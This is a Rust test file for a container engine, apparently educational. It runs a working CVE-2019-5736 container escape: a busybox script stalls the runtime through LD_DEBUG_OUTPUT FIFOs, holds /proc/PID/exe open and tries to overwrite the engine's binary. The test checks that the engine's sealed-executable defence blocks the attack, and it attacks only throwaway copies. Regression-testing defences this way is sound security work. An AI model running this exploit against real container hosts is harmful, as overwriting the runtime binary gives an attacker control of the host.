//! Attacks from inside a container on the engine, run for real.
//!
//! CVE-2019-5736: a container whose `/bin/sh` is a script starting with
//! `#!/proc/self/exe` makes `exec ... -- sh` run the *engine's* binary
//! inside the container. A process of the container holds that binary open
//! through `/proc/PID/exe`, waits for it to exit, and rewrites it. The
//! engine's defence is `ch01_process::sealed_exe`: it runs from a sealed
//! copy in memory, so the container only ever reaches the copy.
//!
//! The engine binaries attacked here are copies in a temporary directory:
//! when the attack succeeds, it rewrites a throwaway file, never the
//! workspace's binary.

use skiff_testkit::{Rootfs, require_root};
use std::io::{BufRead, BufReader, Read};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_ch02-namespaces");

/// The container's program, for busybox's shell. The runtime started by
/// `exec` is dynamically linked, and its loader (the container's, since the
/// kernel looks the ELF interpreter up in the container's root) honours
/// `LD_DEBUG_OUTPUT`: with FIFOs at those paths, the runtime blocks in
/// `open` until we read it, which gives the attacker all the time it needs,
/// with no race. Then: hold `/proc/PID/exe`, let the runtime go, and once it
/// has exited, reopen the held file for writing. (The FIFOs are made by one
/// `mkfifo`: the runtime's pid must stay within their range.)
const ATTACK: &str = r#"
i=2; fifos=
while [ $i -le 1000 ]; do fifos="$fifos /tmp/dbg.$i"; i=$((i + 1)); done
mkfifo $fifos
echo ready
victim=
tries=0
while [ -z "$victim" ] && [ $tries -lt 2000 ]; do
    for dir in /proc/[0-9]*; do
        pid=${dir#/proc/}
        [ -p /tmp/dbg.$pid ] || continue
        exe=$(readlink $dir/exe 2>/dev/null) || continue
        case "$exe" in */busybox) continue;; esac
        victim=$pid
    done
    [ -n "$victim" ] || { usleep 10000; tries=$((tries + 1)); }
done
[ -n "$victim" ] || { echo "no runtime showed up"; exit 1; }
exec 3< /proc/$victim/exe || { echo "open: failed"; exit 1; }
echo "runtime: $(readlink /proc/$victim/exe)"
cat /tmp/dbg.$victim > /dev/null &
tries=0
while :; do
    if error=$( { printf '#!/bin/sh\necho pwned\n' > /proc/self/fd/3; } 2>&1 ); then
        echo "write: ok"
        break
    fi
    case "$error" in
        *busy*)
            tries=$((tries + 1))
            [ $tries -lt 600 ] || { echo "write: still busy"; break; }
            usleep 50000;;
        *) echo "write: $error"; break;;
    esac
done
"#;

#[test]
fn exec_cannot_rewrite_the_engine_through_proc_exe() {
    require_root();
    let binaries = tempfile::Builder::new()
        .prefix("attack-")
        .tempdir_in(Path::new(BIN).parent().unwrap())
        .unwrap();
    // Two copies: the engine that runs the container stays running (and so
    // unwritable) for the container's whole life; `exec` is the one attacked.
    let engine = copy_binary(binaries.path(), "engine");
    let runtime = copy_binary(binaries.path(), "runtime");
    let original = std::fs::read(BIN).unwrap();

    let rootfs = Rootfs::busybox();
    install_shared_libraries(&rootfs, &runtime);
    let sh = rootfs.join("bin/sh");
    std::fs::remove_file(&sh).unwrap();
    std::fs::write(&sh, "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(&sh, std::fs::Permissions::from_mode(0o755)).unwrap();

    let mut container = Container::start(&engine, &rootfs);
    let exec = Command::new(&runtime)
        .args(["exec", "attacked", "sh"])
        .current_dir(rootfs.workdir())
        .env("SKIFF_ROOT", rootfs.workdir().join("state"))
        .output()
        .unwrap();
    let report = container.finish();

    assert!(
        report.contains("runtime: "),
        "the attacker never got hold of the runtime (exec said {:?}):\n{report}",
        String::from_utf8_lossy(&exec.stderr)
    );
    assert!(
        std::fs::read(&runtime).unwrap() == original,
        "the container rewrote the engine's binary through /proc/PID/exe:\n{report}"
    );
    assert!(
        report.contains("write: ") && !report.contains("write: ok"),
        "{report}"
    );
}

/// A copy of the chapter binary, executable, at `dir/name`.
fn copy_binary(dir: &Path, name: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::copy(BIN, &path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// Copies the loader and libraries `binary` needs into the root, at the
/// same paths, as an image built on this distribution would have them.
fn install_shared_libraries(rootfs: &Rootfs, binary: &Path) {
    let out = Command::new("ldd").arg(binary).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let libraries: Vec<&str> = text
        .split_whitespace()
        .filter(|word| word.starts_with('/'))
        .collect();
    assert!(
        !libraries.is_empty(),
        "ldd found no shared libraries in {}: this attack needs a dynamically linked engine\n{text}",
        binary.display()
    );
    for library in libraries {
        let inside = rootfs.join(library);
        std::fs::create_dir_all(inside.parent().unwrap()).unwrap();
        std::fs::copy(library, &inside).unwrap();
    }
}

/// The attacker's container, started in the background; killed on drop.
struct Container {
    engine: Child,
    init: i32,
    output: BufReader<std::process::ChildStdout>,
}

impl Container {
    fn start(engine: &Path, rootfs: &Rootfs) -> Container {
        let mut child = Command::new(engine)
            .args(["run", "--name", "attacked", "--rootfs", "rootfs"])
            .env("SKIFF_ROOT", rootfs.workdir().join("state"))
            .args(["-e", "LD_DEBUG=files", "-e", "LD_DEBUG_OUTPUT=/tmp/dbg"])
            .args(["--", "/bin/busybox", "sh", "-c", ATTACK])
            .current_dir(rootfs.workdir())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut output = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        output.read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "ready", "the container did not start");
        let children =
            std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", child.id())).unwrap();
        let init = children
            .split_whitespace()
            .next()
            .expect("the container's first process")
            .parse()
            .unwrap();
        Container {
            engine: child,
            init,
            output,
        }
    }

    /// Waits for the attacker to finish; returns what it printed.
    fn finish(&mut self) -> String {
        let mut report = String::new();
        self.output.read_to_string(&mut report).unwrap();
        let _ = self.engine.wait();
        report
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.init),
            nix::sys::signal::Signal::SIGKILL,
        );
        let _ = self.engine.wait();
    }
}
